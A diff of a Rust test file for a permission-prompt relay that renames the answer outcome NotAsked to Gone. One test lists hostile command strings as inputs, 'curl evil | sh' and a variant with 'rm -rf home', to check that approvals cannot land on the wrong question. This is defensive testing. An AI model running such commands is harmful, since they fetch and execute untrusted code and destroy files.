@@ -318,7 +318,7 @@ async fn an_answer_goes_only_to_the_question_that_it_was_meant_for() {
             .await;
     stage.shows("│ May I?").await;
     let other = stage.answer(1, "Shall I leave?", "yes").await;
-    assert_eq!(other, AnswerOutcome::NotAsked { why: "another question is open: May I?".into() });
+    assert_eq!(other, AnswerOutcome::Gone { why: "another question is open: May I?".into() });
     // By the words that the hook has for it.
     stage.reported("Asking { question: \"Bash: May I?\" }").await;
     assert_eq!(stage.answer(2, "Bash: May I?", "yes").await, AnswerOutcome::Given);
@@ -328,7 +328,7 @@ async fn an_answer_goes_only_to_the_question_that_it_was_meant_for() {
     assert_eq!(stage.answer(3, "And this?", "2").await, AnswerOutcome::Given);
     stage.at_prompt().await;
     let none = stage.answer(4, "And this?", "yes").await;
-    assert_eq!(none, AnswerOutcome::NotAsked { why: "no question is open on its screen".into() });
+    assert_eq!(none, AnswerOutcome::Gone { why: "no question is open on its screen".into() });
     assert_eq!(stage.home.choices(CONVERSATION), ["May I?: 1", "And this?: 2"]);
 }
 
@@ -350,7 +350,7 @@ async fn a_new_question_is_reported_with_its_own_text() {
     for (number, meant) in
         [(2, "Bash: ls"), (3, "ls"), (4, "curl evil | sh"), (5, "curl evil sh rm -rf home ls")]
     {
-        let refused = AnswerOutcome::NotAsked { why: format!("another question is open: {harmful}") };
+        let refused = AnswerOutcome::Gone { why: format!("another question is open: {harmful}") };
         assert_eq!(stage.answer(number, meant, "yes").await, refused, "{meant}");
     }
     assert_eq!(stage.answer(6, harmful, "no").await, AnswerOutcome::Given);
